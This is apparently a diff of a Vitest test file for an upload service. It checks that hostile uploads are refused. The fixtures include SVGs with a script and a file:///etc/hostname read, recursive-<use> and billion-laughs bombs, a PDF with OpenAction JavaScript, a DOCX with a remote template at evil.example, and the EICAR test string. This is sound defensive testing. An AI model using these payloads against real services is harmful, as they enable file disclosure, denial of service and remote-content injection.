@@ -4,6 +4,7 @@ import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { text } from 'node:stream/consumers'
+import { PDFDocument } from 'pdf-lib'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { FileEntry, FileStored, UploadAnswer } from '#model/calls/file-answers.ts'
@@ -198,15 +199,21 @@ describe('pictures', () => {
       .toBuffer({ resolveWithObject: true })
     expect([...data.subarray(0, 3), ...data.subarray(-3)]).toEqual([255, 0, 0, 0, 0, 255])
     const drawn =
-      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="30" height="20"><script>alert(1)</script><rect width="30" height="20" fill="red"/></svg>'
+      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="30" height="20"><rect width="30" height="20" fill="red"/></svg>'
     const svg = await store('adviser', { purpose: 'logo' }, 'logo.svg', drawn)
     expect(svg.entry).toMatchObject({ name: 'logo.png', mediaType: 'image/png', width: 30, level: 'public' })
-    expect((await get('nobody', svg.file.url)).rawPayload.includes('script')).toBe(false)
   })
 })
 
-const secret =
-  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image width="9" height="9" xlink:href="file:///etc/hostname"/></svg>'
+const drawing = (parts: string) =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${parts}</svg>`
+/** Each pattern draws the next one ten times on each side. */
+const endless = drawing(
+  `${Array.from({ length: 9 }, (_, n) => `<g id="g${n}">${`<use xlink:href="#g${n + 1}"/>`.repeat(20)}</g>`).join('')}<g id="g9"><circle r="9"/></g><use xlink:href="#g0"/>`,
+)
+const remoteTemplate =
+  '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+const testVirus = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
 const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(500)}">${Array.from('bcdefgh', (name, index) => `<!ENTITY ${name} "${`&${'abcdefg'[index]};`.repeat(20)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>`
 
 describe('what is not accepted', () => {
@@ -233,7 +240,7 @@ describe('what is not accepted', () => {
       {},
       'a.docx',
       () => buildDocx([{ name: 'word/vbaProject.bin', content: 'x' }]),
-      'type-differs',
+      'office-macros',
     ],
     [
       'a document with a way out',
@@ -282,7 +289,31 @@ describe('what is not accepted', () => {
       'image-too-large',
     ],
     ['a BMP that is too short', {}, 'a.bmp', () => buildBmp(9, 9).subarray(0, 100), 'image-broken'],
-    ['laughs', { purpose: 'photo' }, 'a.svg', () => laughs, 'type-differs'],
+    ['laughs', { purpose: 'logo' }, 'a.svg', () => laughs, 'type-differs'],
+    ['a drawing of a client', { purpose: 'photo' }, 'a.svg', () => drawing(''), 'type-refused'],
+    ['a drawing with a script', { purpose: 'logo' }, 'a.svg', () => drawing('<script/>'), 'drawing-active'],
+    [
+      'a drawing that shows a file of the server',
+      { purpose: 'logo' },
+      'a.svg',
+      () => drawing('<image xlink:href="file:///etc/hostname"/>'),
+      'drawing-active',
+    ],
+    [
+      'a PDF with a script',
+      {},
+      'a.pdf',
+      () => buildPdf('a', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
+      'pdf-script',
+    ],
+    [
+      'a document with a template from elsewhere',
+      {},
+      'a.docx',
+      () => buildDocx([{ name: 'word/_rels/settings.xml.rels', content: remoteTemplate }]),
+      'office-elsewhere',
+    ],
+    ['the test of scanners', {}, 'a.txt', () => testVirus, 'virus'],
     ['a document as a photo', { purpose: 'photo' }, 'a.pdf', () => buildPdf(), 'type-refused'],
   ])('%s', async (...[, options, name, content, reason]) => {
     const { status, body } = await send('adviser', { purpose: 'media', ...options }, name, await content())
@@ -300,13 +331,31 @@ describe('what is not accepted', () => {
     expect(body).toMatchObject({ outcome: 'refused', reason: 'too-large' })
   })
 
-  it('a drawing shows no file of the server', async () => {
-    const { file } = await store('adviser', { purpose: 'logo' }, 'a.svg', secret)
-    const { channels } = await sharp((await get('nobody', file.url)).rawPayload)
-      .ensureAlpha()
-      .stats()
-    expect(channels.at(3)?.max).toBe(0)
-  })
+  it('is a drawing that takes for ever; other firms do not wait for it', async () => {
+    let ended = 0
+    const flood = Array.from({ length: 3 }, async () => {
+      const { body } = await send('adviser', { purpose: 'logo' }, 'a.svg', endless)
+      ended += 1
+      return body
+    })
+    const small = await buildPicture('png', { width: 2, height: 2 })
+    const { body } = await send('abroad', { purpose: 'photo' }, 'small.png', small)
+    expect(ended).toBe(0)
+    expect(body).toMatchObject({ outcome: 'stored' })
+    for (const refused of await Promise.all(flood)) expect(refused).toMatchObject({ reason: 'too-complex' })
+  }, 90_000)
+
+  it('is one file too many of a person at a time, said in words', async () => {
+    const half = (await png()).subarray(0, 300)
+    const all = await Promise.all(
+      Array.from({ length: 20 }, () => send('adviser', { purpose: 'media' }, 'a.png', half)),
+    )
+    const reasons = all.map(({ body }) => (body.outcome === 'refused' ? body.reason : body.outcome))
+    expect(new Set(reasons)).toEqual(new Set(['image-broken', 'busy']))
+    expect(reasons.filter((reason) => reason === 'image-broken').length).toBeGreaterThanOrEqual(12)
+    const busy = all.find(({ body }) => body.outcome === 'refused' && body.reason === 'busy')
+    expect(busy?.body).toMatchObject({ message: expect.stringContaining('Try again') })
+  }, 60_000)
 
   it('leaves nothing in quarantine and nothing in the store', async () => {
     const left = async () => (await readdir(quarantine)).filter((name) => name.startsWith('portico-upload-'))
@@ -353,13 +402,9 @@ describe('the library', () => {
     expect(picture.file).toMatchObject({ name: 'Scan.pdf', url: `/files/accounts/${id['account']}/Scan.pdf` })
     const { rawPayload, headers } = await get('client', picture.file.url)
     expect(headers['content-type']).toBe('application/pdf')
-    const text = rawPayload.toString('latin1')
-    expect(text).toMatch(/^%PDF-1\.4[\s\S]*\/Count 1[\s\S]*\/DCTDecode[\s\S]*%%EOF\n$/)
-    const table = Number(/startxref\n(\d+)\n/.exec(text)?.[1])
-    const offsets = [...text.slice(table).matchAll(/^(\d{10}) 00000 n/gm)].map(([, offset]) => Number(offset))
-    expect(offsets.map((offset) => text.slice(offset, offset + 7))).toEqual(
-      [1, 2, 3, 4, 5].map((n) => `${n} 0 obj`),
-    )
+    expect(rawPayload.includes('/DCTDecode')).toBe(true)
+    const pages = (await PDFDocument.load(rawPayload)).getPages()
+    expect(pages.map((page) => page.getSize())).toEqual([{ width: 841.89, height: 595.28 }])
   })
 
   it('refuses what can be no PDF', async () => {
@@ -674,7 +719,7 @@ describe('files that are there', () => {
     }
     expect(await listed('client')).toEqual(expect.arrayContaining(['L1.pdf', 'L2.pdf']))
     expect(await listed('stranger')).toEqual([])
-    expect(await listed('abroad', {})).toEqual([])
+    expect(await listed('abroad', {})).toEqual(['small.png'])
     expect(await listed('adviser', { prefix, limit: '1' })).toEqual(['L2.pdf'])
     expect((await ask('nobody', 'listFiles')).status).toBe(401)
   })
